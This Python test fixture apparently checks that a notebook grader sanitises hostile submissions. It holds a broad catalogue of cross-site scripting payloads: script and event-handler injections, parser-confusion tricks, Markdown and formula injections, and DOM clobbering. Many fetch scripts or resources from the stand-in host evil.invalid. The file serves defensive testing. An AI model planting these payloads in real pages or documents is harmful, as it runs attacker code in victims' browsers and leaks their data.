# ruff: noqa: E501 - an attack in two lines would be another attack
"""What a submission may hold to run a script, or to ask another host, in the browser of whoever opens it."""

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

EVIL = "http://evil.invalid"
RUN = "document.title='HARMED';alert(1)"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{RUN}" '
    f'width="20" height="20"><script>{RUN}</script><rect width="9" height="9" fill="url({EVIL}/fill)"/>'
    f'<image xlink:href="{EVIL}/image.png" width="9" height="9"/><a xlink:href="javascript:{RUN}"><text>go</text></a>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/frame"/></foreignObject>'
    f"<style>@import url({EVIL}/style);</style></svg>"
)
PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals, unclosed": f"<SCRIPT>{RUN}//",
    "script from elsewhere": f"<script src={EVIL}/script.js></script>",
    "event handler of a picture": f'<img src=x onerror="{RUN}">',
    "event handler of a mouse": f'<b onmouseover="{RUN}" onclick="{RUN}">pass over me</b>',
    "handler of a fold that opens itself": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "field that focuses itself": f'<input autofocus onfocus="{RUN}">',
    "animation": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart=\"{RUN}\">x</p>",
    "javascript link": f'<a href="javascript:{RUN}">click me</a>',
    "javascript link, disguised": f'<a href=" jav&#x09;ascript:{RUN}">click me</a>',
    "page in a link": f'<a href="data:text/html;base64,{PAGE}">click me</a>',
    "link to a page handed in": '<a href="evil.html">click me</a>',
    "frame": f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame with a page in it": f'<iframe src="data:text/html;base64,{PAGE}"></iframe>',
    "object and embed": f'<object data="data:text/html;base64,{PAGE}"></object><embed src="{EVIL}/embed.swf">',
    "drawing": SVG,
    "drawing as a picture": f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
    "picture from elsewhere": f'<img src="{EVIL}/pixel.png"><img srcset="{EVIL}/set.png 1x">',
    "picture from elsewhere in a source": f'<picture><source srcset="{EVIL}/source.png"><img src=x></picture>',
    "film": f'<video src="{EVIL}/film.mp4" poster="{EVIL}/poster.png" autoplay onerror="{RUN}"></video>',
    "style that fetches": f"<style>body{{background:url({EVIL}/style.png)}}@import '{EVIL}/import.css';</style>",
    "style of an element that fetches": f'<p style="background:url({EVIL}/inline.png)">x</p>',
    "style sheet": f'<link rel=stylesheet href="{EVIL}/sheet.css"><link rel=prefetch href="{EVIL}/prefetch">',
    "base": f'<base href="{EVIL}/">',
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    "refresh to a script": f'<meta http-equiv=refresh content="0;url=data:text/html;base64,{PAGE}">',
    "form": f'<form action="{EVIL}/form"><button formaction="javascript:{RUN}">Save</button></form>',
    "parser confusion, style in mathematics": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "parser confusion, noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "parser confusion, comment": f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}"> -->',
    "parser confusion, template": f'<template><s><template><s><img src=x onerror="{RUN}"></s></template>',
    "parser confusion, table": f'<table><td><svg><p><style><a id="</style><img src=1 onerror={RUN}>">',
    "closing what the page opened": f"</pre></div></main></body></style></title></textarea><script>{RUN}</script>",
    "names that hide those of the page": "<img id=formgrader><form id=base_url><a id=submission_id name=MathJax>x</a>",
}
MARKDOWN = {
    "javascript link in Markdown": f"[click me](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    "reference that is a script": f"[click me][one]\n\n[one]: javascript:{RUN}",
    "automatic link": f"<javascript:{RUN}>",
    "page in a link in Markdown": f"[click me](data:text/html;base64,{PAGE})",
    "picture from elsewhere in Markdown": f"![seen]({EVIL}/markdown.png)",
    "address that leaves its quotes": f'![a" onerror="{RUN}](x.png "b\' onerror=\'{RUN}")',
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\style{{background:url({EVIL}/tex)}}{{y}}$$",
    "formula with markup": f'$\\text{{<img src=x onerror="{RUN}">}}$ $x" onmouseover="{RUN}$',
    "formula in an attribute": f'<p title="\n\n$a onmouseover={RUN}$\n\n" lang="$b$">pass over me</p>',
    "language of a block of code": f'```"><script>{RUN}</script>\nx\n```',
}


def hostile_cells() -> list[NotebookNode]:
    """Every attack, in each place of a notebook where it may stand."""
    cells = []
    for name, html in HTML.items():
        cells.append(new_markdown_cell(f"{name}\n\n{html}\n\nafter it"))
        cells.append(new_code_cell(name, outputs=[new_output("display_data", data={"text/html": html})]))
        cells.append(new_raw_cell(html, metadata={"raw_mimetype": "text/html"}))
    cells += [new_markdown_cell(f"{name}\n\n{text}") for name, text in MARKDOWN.items()]
    cells += [
        new_code_cell("markdown output", outputs=[new_output("display_data", data={"text/markdown": text})])
        for text in [*MARKDOWN.values(), *HTML.values()]
    ]
    cells += _outputs()
    cells += _metadata()
    return cells


def _outputs() -> list[NotebookNode]:
    out = f'"><script>{RUN}</script>'
    bundles = [
        {"application/javascript": RUN},
        {"image/svg+xml": SVG},
        {"image/png": f'{PNG}"><script>{RUN}</script>'},
        {"image/png": base64.b64encode(SVG.encode()).decode()},
        {"text/latex": f"$x$ <script>{RUN}</script>"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}},
        {"text/vnd.mermaid": f"graph TD; A-->B<script>{RUN}</script>"},
        {"application/vnd.plotly.v1+json": {"data": [out]}},
    ]
    sizes = {
        "image/png": {"width": f"1 onerror={RUN}", "alt": out},
        "filenames": {"image/png": f"{EVIL}/name.png"},
    }
    isolated = {"text/html": {"isolated": True}}
    return [
        *(new_code_cell("x", outputs=[new_output("display_data", data=data)]) for data in bundles),
        new_code_cell("x", outputs=[new_output("display_data", data={"image/png": PNG}, metadata=sizes)]),
        new_code_cell(
            "x", outputs=[new_output("display_data", data={"text/html": HTML["script"]}, metadata=isolated)]
        ),
        new_code_cell(
            "x", outputs=[new_output("stream", name="stdout", text=f"<script>{RUN}</script>\x1b[31{out}m")]
        ),
        new_code_cell(
            "x", outputs=[new_output("error", ename=out, evalue=out, traceback=[out, f"\x1b[0;31m{out}"])]
        ),
    ]


def _metadata() -> list[NotebookNode]:
    out = f'"><script>{RUN}</script>'
    tagged = {"tags": [out], "alt": out, "slideshow": {"slide_type": out}}
    graded = {"grade_id": out, "grade": True, "solution": True, "task": False, "points": out, "comment": out}
    attached = new_markdown_cell(f"![a](attachment:x.png) ![b](attachment:{EVIL})", metadata=tagged)
    attached["attachments"] = {"x.png": {f"image/png{out}": out, "image/svg+xml": SVG}}
    return [
        attached,
        new_code_cell(f"%%html\n<script>{RUN}</script>", metadata=tagged),
        new_code_cell("%%javascript\n" + RUN, metadata={"nbgrader": graded, **tagged}),
    ]


NOTEBOOK_METADATA = {
    "title": f"</title><script>{RUN}</script>",
    "language_info": {"name": f'"><script>{RUN}</script>', "pygments_lexer": f"</pre><script>{RUN}</script>"},
    "kernelspec": {"name": "python3", "display_name": f"<script>{RUN}</script>", "language": "python"},
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"x": f"</script><script>{RUN}</script>"},
        }
    },
}
